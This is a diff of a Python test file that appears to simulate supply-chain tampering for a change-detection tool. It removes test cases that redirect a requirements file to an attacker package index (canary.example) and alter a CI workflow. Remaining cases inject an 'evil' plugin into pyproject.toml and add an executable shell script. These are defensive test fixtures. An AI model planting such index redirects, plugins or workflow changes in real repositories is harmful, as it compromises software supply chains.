@@ -140,23 +140,11 @@ def settings_changed(target: Target) -> None:
     target.append("pyproject.toml", "\n[tool.other]\nplugins = ['evil']\n")
 
 
-@attack("requirements/base.txt")
-def requirements_changed(target: Target) -> None:
-    """A library from the attacker's place."""
-    target.append("requirements/base.txt", "--index-url http://canary.example/\n")
-
-
 @attack("tools/run")
 def executable_added(target: Target) -> None:
     """An executable without an ending."""
     target.add("tools/run", f"#!/bin/sh\n{target.shell}\n")
     target.path("tools/run").chmod(0o755)
-
-
-@attack(".github/workflows")
-def workflow_changed(target: Target) -> None:
-    """What the host runs for a pull request."""
-    target.append(".github/workflows/verify.yml", "\n# always succeeds\n")
 
 
 @attack(".dvcignore", status=OUTSIDE)
